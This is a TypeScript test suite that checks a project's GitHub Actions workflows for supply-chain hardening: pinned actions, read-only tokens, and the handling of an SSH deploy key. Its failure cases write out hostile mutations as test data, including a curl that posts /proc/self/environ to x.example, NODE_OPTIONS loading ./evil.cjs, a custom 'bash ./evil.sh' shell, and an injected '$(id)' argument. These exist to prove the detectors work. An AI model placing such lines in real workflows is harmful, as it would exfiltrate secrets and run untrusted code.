// Every workflow keeps GitHub's hardening guidance: actions pinned to verified commit SHAs,
// checkouts that leave no token behind, the pull request's code only in read-only jobs, no
// expression pasted into a script, and the deploy key on disk only around the step that uses it
// (apply's, drift's status). The review comment is computed by the base branch's fortress in a job
// that runs no code from the pull request. In apply.yml and drift.yml, which run on the default
// branch only, the jobs that write (the pull-request comment, the drift issue) run nothing but a
// script of scripts/github, next to no npm, fortress, environment or secret. Each check is also
// shown failing on a workflow that breaks its promise.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { stringify } from 'yaml';
import {
  actionReferences,
  canWrite,
  checkoutsKeepingCredentials,
  codeInWritingJobs,
  codeRunBy,
  defaultBranchSecurityProblems,
  deployKeyProblems,
  effectivePermissions,
  expressionsInScripts,
  nonDefaultBranchEvents,
  parseWorkflow,
  reviewJobProblems,
  securityProblems,
  unpinnedActions,
  verifiedPins,
  workflowWidePermissions,
  writingJobProblems,
  type KeyUser,
  type Step,
  type Workflow,
} from './securityPromises.js';

const workflowsDir = new URL('../../.github/workflows/', import.meta.url).pathname;
const reviewText = readFileSync(join(workflowsDir, 'review.yml'), 'utf8');
const applyText = readFileSync(join(workflowsDir, 'apply.yml'), 'utf8');
const driftText = readFileSync(join(workflowsDir, 'drift.yml'), 'utf8');
const templateText = (file: string) => readFileSync(new URL(`../../src/init/templates/${file}`, import.meta.url), 'utf8');
/** drift.yml's status step, the one that uses the deploy key there. */
const statusKeyUser: KeyUser = { name: 'status', runs: 'node dist/cli/main.js status ' };

/** A changed copy of a workflow, written back as YAML (comments are not kept). */
function changed(text: string, change: (workflow: Workflow) => void): Workflow {
  const workflow = structuredClone(parseWorkflow(text));
  change(workflow);
  return parseWorkflow(stringify(workflow));
}

describe.each([
  // Runs a pull request's code: nothing from the repository may run where the token can write.
  ['review.yml', reviewText, securityProblems],
  // Run the default branch's code only: a job that writes may run a script of scripts/github.
  ['apply.yml', applyText, defaultBranchSecurityProblems],
  ['drift.yml', driftText, defaultBranchSecurityProblems],
  // What `fortress init` writes keeps the same promises.
  ['init: review.yml', templateText('review.yml'), securityProblems],
  ['init: apply.yml', templateText('apply.yml'), defaultBranchSecurityProblems],
  ['init: drift.yml', templateText('drift.yml'), defaultBranchSecurityProblems],
])('%s', (_file, text, promises) => {
  test('keeps every promise', () => {
    expect(promises(text)).toEqual([]);
  });

  test('pins every action to a verified commit SHA, with its release tag in a comment', () => {
    const references = actionReferences(text);
    expect(references.length).toBeGreaterThan(0);
    for (const { uses, tag } of references) {
      expect(uses).toMatch(/^[\w.-]+\/[\w.-]+@[0-9a-f]{40}$/);
      expect(tag).toMatch(/^v\d+\.\d+\.\d+$/);
      expect(verifiedPins[uses], uses).toBe(tag);
    }
    // The pins are the text, not only the parsed values: `uses: owner/name@<sha> # vX.Y.Z`.
    for (const line of text.split('\n').filter((l) => /^\s*(- )?uses:/.test(l))) {
      expect(line).toMatch(/uses: [\w.-]+\/[\w.-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/);
    }
  });

  test('every checkout leaves no credentials behind', () => {
    const workflow = parseWorkflow(text);
    const checkouts = Object.values(workflow.jobs).flatMap((job) => job.steps.filter((s) => s.uses?.startsWith('actions/checkout@')));
    expect(checkouts.length).toBeGreaterThan(0);
    for (const checkout of checkouts) expect(checkout.with?.['persist-credentials']).toBe(false);
  });

  test('no script carries an expression: values come in through env', () => {
    const workflow = parseWorkflow(text);
    for (const job of Object.values(workflow.jobs)) for (const step of job.steps) expect(step.run ?? '').not.toContain('${{');
  });
});

describe('review.yml: the pull request runs with a read token, the comment is posted by a job that runs no code', () => {
  const review = parseWorkflow(reviewText);
  const jobsRunningCode = Object.entries(review.jobs).filter(([, job]) => codeRunBy(job).length > 0);

  test('the workflow-wide token has no permission', () => {
    expect(review.permissions).toEqual({});
  });

  test('the jobs that run npm and fortress can only read the repository', () => {
    expect(jobsRunningCode.map(([name]) => name)).toEqual(['checks', 'review']);
    for (const [, job] of jobsRunningCode) {
      expect(job.permissions).toEqual({ contents: 'read' });
      expect(canWrite(effectivePermissions(review, job))).toBe(false);
    }
    expect(review.jobs.checks!.steps.some((s) => s.run === 'npm ci')).toBe(true);
    expect(review.jobs.review!.steps.some((s) => s.run === 'npm ci && test -f dist/cli/main.js' && s['working-directory'] === 'base')).toBe(true);
  });

  test('the only job that can write runs no script, checks nothing out and never calls npm', () => {
    const writing = Object.entries(review.jobs).filter(([, job]) => canWrite(effectivePermissions(review, job)));
    expect(writing.map(([name]) => name)).toEqual(['comment']);
    const [, comment] = writing[0]!;
    expect(comment.permissions).toEqual({ 'pull-requests': 'write' });
    expect(codeRunBy(comment)).toEqual([]);
    expect(comment.steps.map((s) => s.uses?.replace(/@.*/, ''))).toEqual(['actions/download-artifact', 'actions/download-artifact', 'actions/github-script']);
  });
});

describe("review.yml: the comment is computed by the base branch's fortress, in a job that runs no code from the pull request", () => {
  const review = parseWorkflow(reviewText);
  const job = review.jobs.review!;
  const checkouts = job.steps.filter((s) => s.uses?.startsWith('actions/checkout@'));

  test('keeps the promise', () => {
    expect(reviewJobProblems(review)).toEqual([]);
  });

  test('two checkouts, the pull request and the base branch, in their own directories, both without credentials', () => {
    expect(checkouts.map((s) => [s.with?.ref, s.with?.path, s.with?.['persist-credentials']])).toEqual([
      [undefined, 'head', false],
      ['${{ github.event.pull_request.base.sha }}', 'base', false],
    ]);
  });

  test("npm runs in the base branch's checkout only; in the pull request's, only the base branch's fortress runs", () => {
    const scripts = job.steps.filter((s) => typeof s.run === 'string').map((s) => [s['working-directory'] ?? '.', s.run!.split(' ')[0]]);
    expect(scripts.filter(([, program]) => program === 'npm')).toEqual([['base', 'npm']]);
    const inHead = job.steps.filter((s) => s['working-directory'] === 'head');
    expect(inHead).toHaveLength(1);
    expect(inHead[0]!.run).toMatch(/^node \.\.\/base\/dist\/cli\/main\.js diff --base "origin\/\$BASE_REF" --format markdown > /);
  });

  test("the pull request's own fortress validates and checks its render, in the other job", () => {
    const checks = review.jobs.checks!;
    expect(checks.steps.filter((s) => s.uses?.startsWith('actions/checkout@')).map((s) => s.with)).toEqual([{ 'fetch-depth': 0, 'persist-credentials': false }]);
    expect(checks.steps.filter((s) => typeof s.run === 'string').map((s) => s.run)).toEqual(
      expect.arrayContaining(['npm ci', 'npm run review:validate', 'npm run review:check']),
    );
    expect(checks.needs).toBeUndefined();
    expect(job.needs).toBeUndefined();
  });

  test('the comment job reads the review by the id the review job reported', () => {
    const download = review.jobs.comment!.steps.find((s) => s.with?.['artifact-ids'] !== undefined);
    expect(download?.with?.['artifact-ids']).toBe('${{ needs.review.outputs.artifact-id }}');
    expect(download?.if).toBe("${{ needs.review.outputs.artifact-id != '' }}");
  });
});

describe('apply.yml: the deploy key', () => {
  const apply = parseWorkflow(applyText);
  const steps = apply.jobs.apply!.steps;
  const indexOf = (match: (step: Step) => boolean) => steps.findIndex(match);

  test('is a secret of the production environment, on disk only around apply, gone before any upload', () => {
    expect(deployKeyProblems(apply)).toEqual([]);
    expect(apply.jobs.apply!.environment).toBe('production');
    const applyStep = indexOf((s) => s.run?.includes('apply:run') ?? false);
    const removal = indexOf((s) => s.run === 'rm -f "$RUNNER_TEMP/fortress_ssh_key"');
    expect(removal).toBe(applyStep + 1);
    expect(steps[removal]!.if).toBe('${{ always() }}');
    const uploads = steps.flatMap((s, i) => (s.uses?.startsWith('actions/upload-artifact@') ? [i] : []));
    expect(uploads.length).toBeGreaterThan(0);
    for (const upload of uploads) expect(upload).toBeGreaterThan(removal);
  });

  test('the comment says where the key comes from', () => {
    expect(applyText).toMatch(/FORTRESS_SSH_PRIVATE_KEY, is a secret of this environment/);
  });

  test('the job can only read the repository', () => {
    expect(apply.permissions).toEqual({});
    expect(apply.jobs.apply!.permissions).toEqual({ contents: 'read' });
  });
});

describe('apply.yml and drift.yml: the token that writes sits next to nothing but a script of scripts/github', () => {
  const workflows = { 'apply.yml': parseWorkflow(applyText), 'drift.yml': parseWorkflow(driftText) };

  test('run only on the default branch: push to main, a schedule, by hand', () => {
    for (const workflow of Object.values(workflows)) expect(nonDefaultBranchEvents(workflow)).toEqual([]);
    expect(Object.keys(workflows['apply.yml'].on)).toEqual(['push']);
    expect(Object.keys(workflows['drift.yml'].on)).toEqual(['schedule', 'workflow_dispatch']);
  });

  test('one job of each can write, one scope each; the jobs with the deploy key can only read', () => {
    const writing = Object.entries(workflows).flatMap(([file, workflow]) =>
      Object.entries(workflow.jobs)
        .filter(([, job]) => canWrite(effectivePermissions(workflow, job)))
        .map(([name, job]) => [`${file} ${name}`, job.permissions]),
    );
    expect(writing).toEqual([
      ['apply.yml comment', { contents: 'read', 'pull-requests': 'write' }],
      ['drift.yml issue', { contents: 'read', issues: 'write' }],
    ]);
    for (const [file, job] of [['apply.yml', 'apply'], ['drift.yml', 'status']] as const) {
      expect(workflows[file].jobs[job]!.environment, file).toBe('production');
      expect(workflows[file].jobs[job]!.permissions, file).toEqual({ contents: 'read' });
    }
  });

  test('the writing jobs check out scripts/github alone and run one script of it, which exists', () => {
    for (const workflow of Object.values(workflows)) {
      expect(writingJobProblems(workflow)).toEqual([]);
      for (const job of Object.values(workflow.jobs).filter((j) => canWrite(effectivePermissions(workflow, j)))) {
        const runs = job.steps.filter((s) => typeof s.run === 'string').map((s) => s.run!);
        expect(runs).toHaveLength(1);
        expect(codeRunBy(job)).toEqual(['checks out the repository', `runs a script (${runs[0]})`]);
        const script = /^node (scripts\/github\/\w+\.mjs) /.exec(runs[0]!)![1]!;
        expect(readFileSync(new URL(`../../${script}`, import.meta.url), 'utf8')).toMatch(/^#!\/usr\/bin\/env node\n/);
      }
    }
  });
});

describe('drift.yml: the deploy key', () => {
  const drift = parseWorkflow(driftText);

  test('is a secret of the production environment, on disk only around status, gone before any upload', () => {
    expect(deployKeyProblems(drift, 'status', statusKeyUser)).toEqual([]);
    // The same two steps as apply.yml's, word for word.
    const keySteps = (workflow: Workflow, job: string) => workflow.jobs[job]!.steps.filter((s) => s.name === 'SSH key' || s.name === 'Remove the SSH key');
    expect(keySteps(drift, 'status')).toEqual(keySteps(parseWorkflow(applyText), 'apply'));
    expect(driftText).toMatch(/FORTRESS_SSH_PRIVATE_KEY, is a secret of this environment/);
  });

  test('and in the workflows `fortress init` writes, around the pinned fortress', () => {
    expect(deployKeyProblems(parseWorkflow(templateText('drift.yml')), 'status', { name: 'status', runs: 'npx --no-install fortress status ' })).toEqual([]);
    expect(deployKeyProblems(parseWorkflow(templateText('apply.yml')), 'apply', { name: 'apply', runs: 'npx --no-install fortress apply ' })).toEqual([]);
  });
});

describe('each check fails when its promise breaks', () => {
  const pinnedCheckout = 'actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2';

  test('an action by tag, a SHA without its tag, a tag that is not the SHA', () => {
    expect(unpinnedActions(reviewText.replace(pinnedCheckout, 'actions/checkout@v4'))).toEqual(['actions/checkout@v4 is not pinned to a full commit SHA']);
    expect(unpinnedActions(reviewText.replace(pinnedCheckout, 'actions/checkout@11bd719'))).toEqual(['actions/checkout@11bd719 is not pinned to a full commit SHA']);
    expect(unpinnedActions(reviewText.replace(pinnedCheckout, pinnedCheckout.replace(/ # .*/, '')))).toEqual([
      'actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 has no release tag in a trailing comment',
    ]);
    expect(unpinnedActions(reviewText.replace(pinnedCheckout, pinnedCheckout.replace('v4.2.2', 'v4.3.0')))).toEqual([
      'actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.3.0 is not a verified pin',
    ]);
  });

  test('a checkout that keeps the token', () => {
    expect(checkoutsKeepingCredentials(changed(applyText, (w) => delete w.jobs.apply!.steps[0]!.with))).toEqual([
      'jobs.apply.steps[0]: actions/checkout without persist-credentials: false',
    ]);
    expect(checkoutsKeepingCredentials(changed(reviewText, (w) => (w.jobs.review!.steps[0]!.with!['persist-credentials'] = true)))).toHaveLength(1);
  });

  test('write access where the pull request runs', () => {
    const withWrite = changed(reviewText, (w) => (w.jobs.checks!.permissions = { contents: 'read', 'pull-requests': 'write' }));
    expect(codeInWritingJobs(withWrite)).toEqual(expect.arrayContaining(['jobs.checks can write and checks out the repository', 'jobs.checks can write and runs a script (npm ci)']));
    // The base branch's fortress runs code too: its job can only read as well.
    const reviewWithWrite = changed(reviewText, (w) => (w.jobs.review!.permissions = { contents: 'write' }));
    expect(codeInWritingJobs(reviewWithWrite)).toContain('jobs.review can write and runs a script (npm ci && test -f dist/cli/main.js)');
    // No permissions anywhere: every job gets the repository's default token, which may write.
    const byDefault = changed(reviewText, (w) => {
      delete w.permissions;
      delete w.jobs.checks!.permissions;
    });
    expect(workflowWidePermissions(byDefault)).toHaveLength(1);
    expect(codeInWritingJobs(byDefault)).toContain('jobs.checks can write and mentions npm');
    expect(workflowWidePermissions(changed(reviewText, (w) => (w.permissions = 'write-all')))).toHaveLength(1);
  });

  test('code in the job that writes the comment', () => {
    const checkout = { uses: pinnedCheckout.replace(/ # .*/, ''), with: { 'persist-credentials': false } };
    expect(codeInWritingJobs(changed(reviewText, (w) => w.jobs.comment!.steps.unshift(checkout)))).toEqual(['jobs.comment can write and checks out the repository']);
    expect(codeInWritingJobs(changed(reviewText, (w) => w.jobs.comment!.steps.unshift({ run: 'npm ci' })))).toEqual([
      'jobs.comment can write and runs a script (npm ci)',
      'jobs.comment can write and mentions npm',
    ]);
    expect(codeInWritingJobs(changed(reviewText, (w) => w.jobs.comment!.steps.unshift({ uses: './.github/actions/post' })))).toEqual([
      'jobs.comment can write and uses a local action (./.github/actions/post)',
    ]);
  });

  test('an untrusted value pasted into a script', () => {
    const injected = changed(reviewText, (w) => w.jobs.review!.steps.push({ run: 'echo "${{ github.head_ref }}"' }));
    expect(expressionsInScripts(injected)).toEqual([`jobs.review.steps[${injected.jobs.review!.steps.length - 1}]: an expression inside a script`]);
    const inComment = changed(reviewText, (w) => {
      const script = w.jobs.comment!.steps.find((s) => s.uses?.startsWith('actions/github-script@'))!;
      script.with!.script = `const title = '\${{ github.event.pull_request.title }}';\n${script.with!.script}`;
    });
    expect(expressionsInScripts(inComment)).toHaveLength(1);
  });

  test("the pull request's code in the job that computes the review", () => {
    const review = (change: (job: Workflow['jobs'][string]) => void) => reviewJobProblems(changed(reviewText, (w) => change(w.jobs.review!)));
    const step = (job: Workflow['jobs'][string], id: string) => job.steps.find((s) => s.id === id)!;
    const checkout = (job: Workflow['jobs'][string], path: string) => job.steps.find((s) => s.with?.path === path)!;
    const other = "runs something other than the base branch's fortress in the pull request's checkout";
    const noReview = "jobs.review has 0 steps running the base branch's fortress diff --base --format markdown in the pull request's checkout, not one";

    // The pull request's own fortress computes the review, as the single job did.
    expect(review((job) => (step(job, 'diff').run = 'npm run --silent review:diff -- --base "origin/$BASE_REF" > "$RUNNER_TEMP/review.md"'))).toEqual([
      `jobs.review: Diff against the base branch with the base branch's fortress ${other}`,
      noReview,
    ]);
    expect(review((job) => (step(job, 'diff').run = 'node dist/cli/main.js diff --base "origin/$BASE_REF" --format markdown > "$RUNNER_TEMP/review.md"'))).toContain(
      `jobs.review: Diff against the base branch with the base branch's fortress ${other}`,
    );
    // npm ci in the pull request's checkout runs its prepare script; from the workspace root, its CLI.
    expect(review((job) => job.steps.splice(3, 0, { run: 'npm ci', 'working-directory': 'head' }))).toEqual([`jobs.review: npm ci ${other}`]);
    expect(review((job) => job.steps.splice(3, 0, { run: 'node head/dist/cli/main.js --version' }))).toEqual([
      "jobs.review: node head/dist/cli/main.js --version runs node or npm outside the base branch's checkout",
      "jobs.review: node head/dist/cli/main.js --version refers to the pull request's checkout",
    ]);
    expect(review((job) => job.steps.splice(3, 0, { run: 'bash ./head/scripts/x.sh' }))).toEqual(["jobs.review: bash ./head/scripts/x.sh refers to the pull request's checkout"]);
    // A path that climbs out of the base checkout, a working directory that climbs into the pull request's.
    expect(review((job) => (step(job, 'diff').run = step(job, 'diff').run!.replace('../base/dist/', '../base/../head/dist/')))).toContain(
      `jobs.review: Diff against the base branch with the base branch's fortress ${other}`,
    );
    expect(review((job) => (step(job, 'base-fortress')['working-directory'] = 'base/../head'))).toEqual([`jobs.review: Build the base branch's fortress ${other}`]);
    // The base branch's fortress, then something else.
    expect(review((job) => (step(job, 'diff').run = `${step(job, 'diff').run!} && sh ./x.sh`))).toEqual([`jobs.review: Diff against the base branch with the base branch's fortress ${other}`, noReview]);
    expect(review((job) => (step(job, 'diff').run = `node --require ./evil.cjs ${step(job, 'diff').run!.slice('node '.length)}`))).toContain(
      `jobs.review: Diff against the base branch with the base branch's fortress ${other}`,
    );
    expect(review((job) => (step(job, 'diff').env = { ...step(job, 'diff').env, NODE_OPTIONS: '--require ./evil.cjs' }))).toEqual([
      "jobs.review: Diff against the base branch with the base branch's fortress sets NODE_OPTIONS",
    ]);
    expect(review((job) => (step(job, 'diff').shell = 'bash ./evil.sh {0}'))).toEqual(["jobs.review: Diff against the base branch with the base branch's fortress sets its own shell"]);
    expect(review((job) => job.steps.push({ uses: './head/.github/actions/post' }))).toEqual(['jobs.review: ./head/.github/actions/post uses a local action']);
    // A cache the pull request's own job can write, a base checkout that is not the base branch, credentials.
    expect(review((job) => (job.steps.find((s) => s.uses?.startsWith('actions/setup-node@'))!.with!.cache = 'npm'))).toEqual([
      "jobs.review: Set up node, without a cache restores a cache that the pull request's own job can write",
    ]);
    expect(review((job) => (checkout(job, 'base').with!.ref = '${{ github.head_ref }}'))).toEqual([
      'jobs.review checks out the base branch 0 times, not once',
      'jobs.review checks out ${{ github.head_ref }}',
    ]);
    expect(review((job) => delete checkout(job, 'base').with!.ref)).toEqual([
      'jobs.review checks out the pull request 2 times, not once',
      'jobs.review checks out the base branch 0 times, not once',
    ]);
    expect(review((job) => (checkout(job, 'base').with!['persist-credentials'] = true))).toEqual(['jobs.review: a checkout of base keeps its credentials']);
    // One directory for both: the pull request's checkout could overwrite the base branch's files.
    expect(review((job) => (checkout(job, 'base').with!.path = 'head/base'))).toEqual([
      'jobs.review checks out the pull request (head) and the base branch (head/base) into directories that overlap',
    ]);
    expect(review((job) => delete checkout(job, 'head').with!.path)).toEqual([
      'jobs.review checks out the pull request (.) and the base branch (base) into directories that overlap',
    ]);
  });

  test('the key uploaded with the report, kept after a failed apply, outside production, or in every step', () => {
    const steps = (w: Workflow) => w.jobs.apply!.steps;
    const removalIndex = (w: Workflow) => steps(w).findIndex((s) => s.run?.startsWith('rm -f'));

    const uploadedFirst = changed(applyText, (w) => {
      const [removal] = steps(w).splice(removalIndex(w), 1);
      steps(w).push(removal!);
    });
    expect(deployKeyProblems(uploadedFirst)).toEqual(['the key is not removed right after apply', expect.stringMatching(/uploads an artifact while the key is on disk$/)]);

    expect(deployKeyProblems(changed(applyText, (w) => delete steps(w)[removalIndex(w)]!.if))).toEqual(['the key removal does not run if: always()']);
    expect(deployKeyProblems(changed(applyText, (w) => (w.jobs.apply!.environment = 'staging')))).toEqual(['jobs.apply does not run in the production environment']);
    expect(deployKeyProblems(changed(applyText, (w) => (w.jobs.apply!.env = { FORTRESS_SSH_PRIVATE_KEY: '${{ secrets.FORTRESS_SSH_PRIVATE_KEY }}' })))).toContain(
      'the secret is in a job- or workflow-wide env',
    );
    expect(deployKeyProblems(changed(applyText, (w) => steps(w).splice(removalIndex(w), 1)))).toEqual([
      'no step removes the key',
      expect.stringMatching(/uploads an artifact while the key is on disk$/),
    ]);
    const earlyKey = changed(applyText, (w) => {
      const writeKey = steps(w).findIndex((s) => s.env?.FORTRESS_SSH_PRIVATE_KEY);
      const [key] = steps(w).splice(writeKey, 1);
      steps(w).splice(2, 0, key!); // before npm ci: every dependency's install script could read it
    });
    expect(deployKeyProblems(earlyKey)).toEqual(['the key is not written right before apply']);
    expect(deployKeyProblems(changed(applyText, (w) => (steps(w).find((s) => s.env?.FORTRESS_SSH_PRIVATE_KEY)!.run = 'printf "%s" "$FORTRESS_SSH_PRIVATE_KEY" > k')))).toEqual([
      'the key is written without umask 077',
    ]);
  });
  test('a writing workflow that runs on pull requests', () => {
    expect(nonDefaultBranchEvents(changed(driftText, (w) => ((w.on as Record<string, unknown>).pull_request = null)))).toEqual([
      'the workflow runs on pull_request, not only on push, schedule, workflow_dispatch',
    ]);
    expect(defaultBranchSecurityProblems(applyText.replace('on:\n  push:', 'on:\n  pull_request_target:\n  push:'))).toEqual([
      'the workflow runs on pull_request_target, not only on push, schedule, workflow_dispatch',
    ]);
  });

  test('more than a script of scripts/github in a job that writes', () => {
    const issue = (change: (job: Workflow['jobs'][string]) => void) => writingJobProblems(changed(driftText, (w) => change(w.jobs.issue!)));
    const comment = (change: (job: Workflow['jobs'][string]) => void) => writingJobProblems(changed(applyText, (w) => change(w.jobs.comment!)));
    const run = (job: Workflow['jobs'][string]) => job.steps.find((s) => typeof s.run === 'string')!;
    const other = 'runs something other than node scripts/github/<script>.mjs ("$ARGUMENT"…)';

    // npm, fortress, or more after the script.
    expect(issue((job) => job.steps.splice(1, 0, { run: 'npm ci' }))).toEqual([`jobs.issue can write and mentions npm`, `jobs.issue.steps[1] ${other}: npm ci`]);
    expect(issue((job) => (run(job).run = 'node dist/cli/main.js status --format markdown'))).toEqual([`jobs.issue.steps[2] ${other}: node dist/cli/main.js status --format markdown`]);
    expect(comment((job) => (run(job).run = `${run(job).run!}; curl -d @/proc/self/environ https://x.example`))).toHaveLength(1);
    expect(comment((job) => (run(job).run = 'node scripts/github/../../dist/cli/main.js apply'))).toHaveLength(1);
    expect(comment((job) => (run(job).run = 'node scripts/github/applyComment.mjs "$(id)"'))).toHaveLength(1);
    // Actions that run code or set it up.
    expect(issue((job) => job.steps.unshift({ uses: 'actions/setup-node@49933ea5288caeca8642d1e84afbd3f7d6820020', with: { 'node-version': 20 } }))).toEqual([
      'jobs.issue.steps[0] can write and uses actions/setup-node',
    ]);
    expect(comment((job) => job.steps.push({ uses: './.github/actions/post' }))).toEqual(['jobs.comment.steps[3] can write and uses ./.github/actions/post']);
    expect(comment((job) => job.steps.push({ uses: 'actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea', with: { script: 'x' } }))).toEqual([
      'jobs.comment.steps[3] can write and uses actions/github-script',
    ]);
    // The whole repository, another ref, or the token left behind.
    expect(issue((job) => delete job.steps[0]!.with!['sparse-checkout'])).toEqual(['jobs.issue.steps[0] checks out more than scripts/github']);
    expect(issue((job) => (job.steps[0]!.with!['sparse-checkout-cone-mode'] = true))).toEqual(['jobs.issue.steps[0] checks out more than scripts/github']);
    expect(comment((job) => (job.steps[0]!.with!.ref = '${{ github.head_ref }}'))).toEqual(["jobs.comment.steps[0] checks out @${{ github.head_ref }}, not this run's commit"]);
    expect(defaultBranchSecurityProblems(driftText.replace('sparse-checkout-cone-mode: false\n          persist-credentials: false', 'sparse-checkout-cone-mode: false'))).toEqual([
      'jobs.issue.steps[0]: actions/checkout without persist-credentials: false',
    ]);
    // The deploy key's environment or a secret, what makes node load other code, another shell or directory.
    expect(issue((job) => (job.environment = 'production'))).toEqual(['jobs.issue can write and runs in an environment']);
    expect(comment((job) => (run(job).env!.KEY = '${{ secrets.FORTRESS_SSH_PRIVATE_KEY }}'))).toEqual(['jobs.comment can write and reads a secret']);
    expect(comment((job) => (run(job).env!.NODE_OPTIONS = '--require ./x.cjs'))).toEqual(['jobs.comment.steps[2] sets NODE_OPTIONS']);
    expect(issue((job) => (job.env = { NODE_OPTIONS: '--import ./x.mjs' }))).toEqual(['jobs.issue can write and sets NODE_OPTIONS for every step']);
    expect(issue((job) => (run(job).shell = 'bash ./evil.sh {0}'))).toEqual(['jobs.issue.steps[2] sets its own shell']);
    expect(issue((job) => (run(job)['working-directory'] = 'elsewhere'))).toEqual(['jobs.issue.steps[2] sets a working directory']);
    expect(issue((job) => (job.defaults = { run: { shell: 'sh' } }))).toEqual(['jobs.issue can write and sets a default shell or directory']);
  });

  test('write access next to the deploy key, npm and fortress', () => {
    const withIssues = changed(driftText, (w) => (w.jobs.status!.permissions = { contents: 'read', issues: 'write' }));
    expect(writingJobProblems(withIssues)).toEqual([
      'jobs.status can write and runs in an environment',
      'jobs.status can write and reads a secret',
      'jobs.status can write and mentions npm',
      'jobs.status.steps[0] checks out more than scripts/github',
      'jobs.status.steps[1] can write and uses actions/setup-node',
      `jobs.status.steps[2] runs something other than node scripts/github/<script>.mjs ("$ARGUMENT"…): npm ci`,
      expect.stringMatching(/^jobs\.status\.steps\[3\] runs something other .*: \(umask 077/),
      expect.stringMatching(/^jobs\.status\.steps\[4\] runs something other .*: code=0$/),
      expect.stringMatching(/^jobs\.status\.steps\[5\] runs something other .*: rm -f/),
      expect.stringMatching(/^jobs\.status\.steps\[6\] runs something other .*: cat/),
      'jobs.status.steps[7] can write and uses actions/upload-artifact',
    ]);
    // With no permissions anywhere, every job gets the repository's default token, which may write.
    const byDefault = changed(applyText, (w) => {
      delete w.permissions;
      delete w.jobs.apply!.permissions;
    });
    expect(defaultBranchSecurityProblems(stringify(byDefault))).toEqual(expect.arrayContaining([expect.stringMatching(/no top-level permissions/), 'jobs.apply can write and runs in an environment']));
  });

  test("drift.yml's key uploaded with the report, kept after a failed status, outside production, or written before npm ci", () => {
    const steps = (w: Workflow) => w.jobs.status!.steps;
    const removalIndex = (w: Workflow) => steps(w).findIndex((s) => s.run?.startsWith('rm -f'));
    const problems = (change: (w: Workflow) => void) => deployKeyProblems(changed(driftText, change), 'status', statusKeyUser);

    expect(problems((w) => steps(w).push(steps(w).splice(removalIndex(w), 1)[0]!))).toEqual([
      'the key is not removed right after status',
      expect.stringMatching(/^jobs\.status\.steps\[\d\] uploads an artifact while the key is on disk$/),
    ]);
    expect(problems((w) => delete steps(w)[removalIndex(w)]!.if)).toEqual(['the key removal does not run if: always()']);
    expect(problems((w) => delete w.jobs.status!.environment)).toEqual(['jobs.status does not run in the production environment']);
    expect(problems((w) => steps(w).splice(2, 0, steps(w).splice(3, 1)[0]!))).toEqual(['the key is not written right before status']);
    expect(problems((w) => (steps(w).find((s) => s.id === 'status')!.env!.FORTRESS_SSH_PRIVATE_KEY = '${{ secrets.FORTRESS_SSH_PRIVATE_KEY }}'))).toContain(
      'the secret reaches more than the one step that writes the key',
    );
  });
});
